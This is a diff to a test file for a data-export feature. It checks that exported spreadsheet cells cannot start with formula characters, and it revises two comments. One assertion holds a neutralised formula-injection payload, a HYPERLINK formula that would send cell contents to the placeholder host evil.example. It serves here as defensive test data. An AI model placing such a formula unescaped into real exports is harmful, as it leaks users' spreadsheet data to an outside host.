@@ -130,7 +130,7 @@ test('no cell begins as a formula does', async () => {
   const files = await unzipped(exportId)
   const cells = [...files.values()].flat(2)
   expect(cells.filter((cell) => /^[=+@\t\r|%＝＋－＠]/.test(cell))).toEqual([])
-  // A number below nothing is one; words that begin so are not.
+  // A negative number is not a formula; text that starts with the same sign is.
   expect(cells.filter((cell) => cell.startsWith('-') && !/^-\d+$/.test(cell))).toEqual([])
   const people = files.get('person.csv') ?? []
   expect(people.flat()).toContain('\'=HYPERLINK("http://evil.example?"&A1)')
@@ -262,7 +262,7 @@ test('one that cannot be written is told as failed', async () => {
   const exportId = await deps.db
     .transaction()
     .execute((trx) => insertLongJob(trx, { kind: 'dataExport.run', total: 9, startedBy }, deps.clock.now()))
-  // A folder stands where the file would be.
+  // A folder is in the place of the file.
   await mkdir(join(blocked.dataDir, 'exports', `${exportId}.zip.part`), { recursive: true })
   await runExport(blocked, exportId)
   expect((await mine(radhika)).find(({ _id }) => _id === exportId)?.state).toBe('failed')
